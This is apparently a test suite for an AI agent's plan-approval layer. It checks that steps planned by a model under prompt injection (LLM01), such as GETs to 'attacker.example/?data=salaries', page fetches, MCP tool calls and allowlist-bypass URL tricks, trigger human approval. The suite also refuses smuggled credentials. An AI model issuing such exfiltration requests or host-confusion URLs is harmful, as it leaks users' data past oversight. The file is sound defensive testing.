import { PlanInMemory, planAnswer, type Asked } from '#testing/plan-in-memory.js';
import { checkApproval } from '../../facts.js';
import type { PlanTask } from '../../contract/values.js';
import { stepsByModel } from '../../dag/progress.js';
import type { ToolDescription } from '../../tools/tool.js';

const URL_OF_MODEL = 'https://attacker.example/?data=salaries';
const CRITICAL = { hil: { approval_required: 'critical_only' } };
const step = (id: string, tool: string, args: Record<string, unknown>): PlanTask => ({
  ...{ id, tool, arguments: args, depends_on: [] },
});
const get = (url = URL_OF_MODEL) => step('get', 'http_request', { method: 'GET', url });
const eachGet = step('each', 'map', {
  ...{ items: [1], tool: 'http_request', arguments: { method: 'GET', url: URL_OF_MODEL } },
});
const page = step('page', 'fetch_url', { url: URL_OF_MODEL });
const tell = step('tell', 'crm/tell', { text: 'salaries' });
const serverTool = (openWorld?: { host: string | null }): ToolDescription => ({
  ...{
    name: 'crm/tell',
    description: 'Tells.',
    input: { type: 'object' },
    output: {},
    timeoutMs: 1,
    cost: 1,
  },
  ...{ sideEffects: false, isRepeatable: true, attempts: 1, ...(openWorld && { openWorld }) },
});
const crm = serverTool({ host: 'crm.example' });

/** Returns what a plan asks or runs first: a question for approval, or a tool. */
const first = ([asked]: Asked[]) => asked?.input.decision_type ?? asked?.input.tool;
const approve = (edits?: object) => ({ approved: true, ...(edits && { arguments: edits }) });

describe('an injected file cannot send data out through the plan of a model', () => {
  it.each([
    ['a GET with a literal URL', get(), []],
    ['a GET for each item of a list', eachGet, []],
    ['a page', page, []],
    ['a tool of an open-world MCP server', tell, []],
    ['a GET to a host that is not listed', get(), ['api.example', 'example']],
    ['a GET to another port of a listed host', get('https://api.example:8443/'), ['api.example']],
    [
      'a GET to a name that only begins with a listed host',
      get('https://api.example.attacker.example/'),
      ['api.example'],
    ],
    [
      'a GET with a listed host as its user name',
      get('https://api.example@attacker.example/'),
      ['api.example'],
    ],
  ])('LLM01 asks about %s', async (_, task, hosts) => {
    const plan = new PlanInMemory([planAnswer(task)], hosts, [crm]);
    expect(first(await plan.start({ intent: 'summarize', config: CRITICAL }))).toBe('plan_approval');
    expect(await plan.answer(approve())).toMatchObject([{ task: 'run_tool' }]);
  });

  it.each([
    ['a GET', get(), ['attacker.example']],
    ['a page', page, ['attacker.example']],
    ['a tool of a listed MCP server', tell, ['crm.example']],
  ])(
    'P5 does not ask about %s if the tenant listed its host, but refuses redirects to others',
    async (_, task, hosts) => {
      const plan = new PlanInMemory([planAnswer(task)], hosts, [crm]);
      const [asked] = await plan.start({ intent: 'summarize', config: CRITICAL });
      expect(asked).toMatchObject({ task: 'run_tool', input: { stays_on_host: true } });
    },
  );

  it('P5 does not ask about an MCP tool that reaches only its server', async () => {
    const plan = new PlanInMemory([planAnswer(tell)], [], [serverTool()]);
    expect(first(await plan.start({ intent: 'summarize', config: CRITICAL }))).toBe('crm/tell');
  });

  it.each([
    ['a GET', get(), 'http_request'],
    ['a GET for each item', eachGet, 'map'],
    ['a tool of an MCP server', tell, 'crm/tell'],
  ])('P5 does not ask about %s that a client wrote', async (_, task, tool) => {
    const plan = new PlanInMemory([], [], [crm]);
    const [asked] = await plan.start({ tasks: [task], config: CRITICAL });
    expect([asked!.input.tool, asked!.input.stays_on_host]).toEqual([tool, undefined]);
  });

  it('P5 asks about a page that a client wrote, as before', async () => {
    const plan = new PlanInMemory([]);
    expect(first(await plan.start({ tasks: [page], config: CRITICAL }))).toBe('plan_approval');
  });

  describe('in a plan that a model replans', () => {
    const read = step('read', 'list_inputs', {});
    const replan = (id: string) => ({
      id,
      command: { type: 'replan_dag' as const, new_requirement: 'more', available_context: {} },
    });

    it.each([
      ['a GET that it adds', [read], get()],
      ['a GET whose URL it changes', [read, get('https://api.example/')], get()],
    ])('LLM01 asks about %s', async (_, tasks, after) => {
      const plan = new PlanInMemory([planAnswer(read, after)]);
      plan.commands.push(replan('a'));
      expect(first(await plan.start({ tasks, config: CRITICAL }))).toBe('plan_approval');
    });

    it('P5 does not ask about a GET of the client that it keeps', async () => {
      const plan = new PlanInMemory([planAnswer(read, get())]);
      plan.commands.push(replan('a'));
      const asked = await plan.start({ tasks: [read, get()], config: CRITICAL });
      expect(asked.map(({ input }) => input.tool)).toEqual(['list_inputs', 'http_request']);
    });
  });

  describe('by single calls of a map that an answer replaces', () => {
    const drop = { method: 'DELETE', url: 'https://other.example/' };
    const map = (more: object) => step('each', 'map', { ...eachGet.arguments, ...more });

    it.each([{ replace: { 0: drop } }, { skip: [0] }])(
      'P5 refuses %j in the plan of a client or a model',
      async (more) => {
        const client = new PlanInMemory([]);
        expect(await client.start({ tasks: [map(more)], config: CRITICAL })).toEqual([]);
        expect(await client.state()).toMatchObject({ status: 'failed', error: { code: 'invalid_plan' } });
        const model = new PlanInMemory([planAnswer(map(more)), planAnswer(map(more)), planAnswer(eachGet)]);
        await model.start({ intent: 'summarize', config: CRITICAL });
        expect((await model.state()).tasks).not.toMatchObject([{ arguments: more }]);
      },
    );

    it('P5 counts a step with a replaced call that changes something as one that needs approval', async () => {
      const always = { hil: { approval_required: 'always' as const } };
      const plan = new PlanInMemory([]);
      await plan.start({ tasks: [eachGet], config: always });
      const [call] = await plan.answer(approve({ each: { replace: { 0: drop } } }));
      expect(call).toMatchObject({ task: 'run_tool', input: { arguments: { replace: { 0: drop } } } });
      expect((await plan.state()).with_side_effects).toEqual(['each']);
    });

    it('P5 P13 refuses an answer whose replaced call contains a credential', async () => {
      const answer = (headers: object) =>
        checkApproval(approve({ each: { replace: { 0: { ...drop, headers } } } }), request, {
          tenantId: 't',
        });
      const next = { task_id: 'each', tool: 'map', arguments: eachGet.arguments };
      const details = {
        ...{ checkpoint_id: 'hil-1', completed_layer: 0, completed: [], results: [], options: [] },
        next_layer: [{ ...next, side_effects: false, missing: [] }],
      };
      const request = { details } as never;
      await expect(answer({ authorization: 'Bearer 12345678' })).rejects.toThrow('cannot be');
      await expect(answer({ authorization: 'Bearer {{crm}}' })).resolves.toBeDefined();
    });
  });

  it('P5 treats a step that a person edited as the person’s', async () => {
    const plan = new PlanInMemory([planAnswer(get())]);
    await plan.start({ intent: 'summarize', config: { ...CRITICAL, on_task_error: 'retry' } });
    const [call] = await plan.answer(approve({ get: { url: 'https://other.example/' } }));
    expect(call).toMatchObject({ task: 'run_tool' });
    expect((await plan.state()).planned_by_model).toEqual([]);
  });

  it('LLM01 treats all steps of a plan that an older release had made by a model as the model’s', async () => {
    const plan = new PlanInMemory([planAnswer(get())]);
    await plan.start({ intent: 'summarize', config: CRITICAL });
    const { planned_by_model: _, ...older } = await plan.state();
    expect(stepsByModel({ ...older, planned_by_model: undefined })).toEqual(['get']);
  });
});
